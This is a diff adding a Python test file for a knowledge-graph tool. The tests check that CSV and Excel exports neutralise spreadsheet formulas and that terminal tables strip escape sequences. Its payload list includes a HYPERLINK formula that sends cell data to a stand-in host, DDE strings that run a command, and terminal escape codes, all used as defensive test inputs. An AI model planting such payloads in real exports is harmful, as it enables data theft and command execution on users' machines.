@@ -1,0 +1,197 @@
+"""tables: rows in each format, whole; and nothing that a spreadsheet would run."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+
+import pytest
+from pyoxigraph import Literal, NamedNode, QueryResultsFormat, Store, parse_query_results
+
+import mini
+from atgraph.api import KnowledgeGraph
+from atgraph.ask.answer import Answer
+from atgraph.ask.binding import Asking
+from atgraph.cli.ask_command import answer_text
+from atgraph.errors import QueryError
+from atgraph.export import results
+from atgraph.export.results import write_result
+from atgraph.export.tables import BOM, harmless, render
+from atgraph.graph.query_files import find_question
+
+FORMULAS = [
+    '=HYPERLINK("http://e/?"&A1,"open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "＝1+1",
+]
+HARMLESS = [
+    "-5",
+    "+5",
+    "-1.5e3",
+    "3",
+    "Ana Example",
+    "a=1",
+    "a\n=1",
+    "'=1",
+    "",
+    "e-mail",
+    "2019-04-08",
+    " =1",
+]
+
+
+@pytest.mark.parametrize("cell", FORMULAS)
+@pytest.mark.parametrize("fmt", ["csv", "excel"])
+def test_a_spreadsheet_runs_nothing(cell: str, fmt: str) -> None:
+    text = render(["a", cell], [[cell, "b"]], fmt)
+    rows = list(csv.reader(io.StringIO(text.removeprefix(BOM), newline="")))
+
+    assert rows == [["a", "'" + cell], ["'" + cell, "b"]]
+
+
+@pytest.mark.parametrize("cell", HARMLESS)
+def test_what_is_no_formula_stays_as_it_is(cell: str) -> None:
+    assert harmless(cell) == cell
+
+
+@pytest.mark.parametrize("cell", FORMULAS)
+def test_formats_for_programs_keep_each_value(cell: str) -> None:
+    answer = made_of(cell)
+
+    assert (
+        json.loads(answer_text(answer, "json", False))["results"]["bindings"][0]["a"]["value"]
+        == cell
+    )
+    assert answer_text(answer, "tsv", False).splitlines()[1].split("\t")[0] == " ".join(
+        cell.split()
+    )
+    query = f"SELECT ?a WHERE {{ BIND ({Literal(cell)} AS ?a) }}"
+    assert list(csv.reader(io.StringIO(write_result(Store().query(query), "csv"), newline="")))[
+        1
+    ] == [cell]
+
+
+def test_excel_knows_the_letters_by_their_mark_and_csv_has_none() -> None:
+    assert render(["a"], [["Zoë"]], "excel").encode().startswith(b"\xef\xbb\xbfa\r\n")
+    assert render(["a"], [["Zoë"]], "csv") == "a\r\nZoë\r\n"
+
+
+# What is held whole
+
+
+def test_a_result_too_large_to_be_held_whole_is_refused_and_written_row_by_row(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setattr(results, "MOST_ROWS", 2)
+    monkeypatch.setattr(results, "MOST_TRIPLES", 2)
+    rows, triples = (
+        "SELECT ?a WHERE {{ VALUES ?a {{ {} }} }}",
+        "CONSTRUCT {{ <x:s> <x:p> ?a }} WHERE {{ VALUES ?a {{ {} }} }}",
+    )
+
+    for fmt in ("table", "markdown", "excel"):
+        assert "2" in write_result(Store().query(rows.format("1 2")), fmt)
+        with pytest.raises(
+            QueryError,
+            match=f"more than 2 rows, too many for {fmt}; use --format tsv, csv, json or xml",
+        ):
+            write_result(Store().query(rows.format("1 2 3")), fmt)
+    assert write_result(Store().query(rows.format("1 2 3")), "tsv") == "?a\n1\n2\n3\n"
+    assert "2" in write_result(Store().query(triples.format("1 2")), "nt")
+    with pytest.raises(QueryError, match="more than 2 triples; narrow it, or add a LIMIT"):
+        write_result(Store().query(triples.format("1 2 3")), "nt")
+
+
+@pytest.mark.parametrize("terminal", [True, False])
+@pytest.mark.parametrize("notes", [(), [["\x1b]0;note\x07"]]])
+def test_a_value_does_not_act_on_the_terminal_of_who_reads_a_table(
+    monkeypatch: pytest.MonkeyPatch, terminal: bool, notes: list[list[str]]
+) -> None:
+    monkeypatch.setattr("sys.stdout.isatty", lambda: terminal)
+    table = render(["a"], [["red\x1b[31m\x07"]], "table", notes)
+
+    assert not [act for act in ("\x1b[31m", "\x1b]0", "\x07") if act in table]
+    assert "red\N{REPLACEMENT CHARACTER}[31m" in table
+    assert render(["a"], [["red\x1b[31m\x07"]], "csv") == "a\r\nred\x1b[31m\x07\r\n"
+
+
+def test_a_long_table_is_not_fitted_to_the_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
+    piped = render(["a"], [["x"], ["y" * 200]], "table")
+    monkeypatch.setattr("sys.stdout.isatty", lambda: True)
+    assert render(["a"], [["x"], ["y" * 200]], "table") != piped
+    monkeypatch.setattr("atgraph.export.tables.MOST_DRAWN", 1)
+    assert render(["a"], [["x"], ["y" * 200]], "table") == piped
+
+
+# Answers with their evidence and citation
+
+
+def made_of(*cells: str) -> Answer:
+    asked = find_question("claims")
+    rows = tuple({"a": Literal(cell), "statement": NamedNode("http://e/none")} for cell in cells)
+    return Answer(
+        Asking(asked, (), asked.query), ("a", "statement"), rows, KnowledgeGraph(mini.graph().store)
+    )
+
+
+@pytest.fixture
+def answer() -> Answer:
+    return KnowledgeGraph(mini.graph().store).ask("who-works-with", organization="HN")
+
+
+@pytest.mark.parametrize("fmt", ["csv", "tsv", "excel"])
+def test_rows_for_programs_carry_evidence_and_citation_in_columns(answer: Answer, fmt: str) -> None:
+    delimiter = "\t" if fmt == "tsv" else ","
+    text = answer_text(answer, fmt, True, True).removeprefix(BOM)
+    rows = list(
+        csv.reader(
+            io.StringIO(text, newline=""),
+            delimiter=delimiter,
+            quoting=csv.QUOTE_NONE if fmt == "tsv" else csv.QUOTE_MINIMAL,
+        )
+    )
+
+    assert rows[0] == [*answer.shown, "evidence", "citation"]
+    assert {len(row) for row in rows} == {len(answer.shown) + 2}
+    assert {row[-1] for row in rows[1:]} == {answer.cite()}
+    assert all(f"programmes/{mini.ID}/source.txt:" in row[-2] for row in rows[1:])
+
+
+@pytest.mark.parametrize("fmt", ["table", "markdown"])
+def test_rows_for_people_have_the_citation_under_them(answer: Answer, fmt: str) -> None:
+    text = answer_text(answer, fmt, True, True)
+
+    assert text.endswith(f"\n\n{answer.cite()}\n")
+    assert text.count(answer.cite()) == 1
+    assert str(answer.evidence[0][0]) in text
+
+
+def test_json_carries_evidence_and_citation_as_bindings_that_any_reader_takes(
+    answer: Answer,
+) -> None:
+    text = answer_text(answer, "json", True, True)
+    solutions = parse_query_results(text.encode(), format=QueryResultsFormat.JSON)
+
+    assert [v.value for v in solutions.variables] == [*answer.columns, "evidence", "citation"]
+    assert [s["evidence"].value.split("\n") for s in solutions] == [
+        list(map(str, quotes)) for quotes in answer.evidence
+    ]
+    assert answer_text(answer, "json", False) == answer_text(answer, "json", False, False)
+
+
+def test_without_a_row_only_a_citation_and_empty_json_are_written() -> None:
+    empty = made_of()
+
+    assert [
+        answer_text(empty, fmt, True) for fmt in ("table", "markdown", "csv", "tsv", "excel")
+    ] == [""] * 5
+    assert [answer_text(empty, fmt, True, True) for fmt in ("table", "markdown", "csv")] == [
+        empty.cite() + "\n"
+    ] * 2 + [""]
+    assert json.loads(answer_text(empty, "json", True, True))["results"]["bindings"] == []
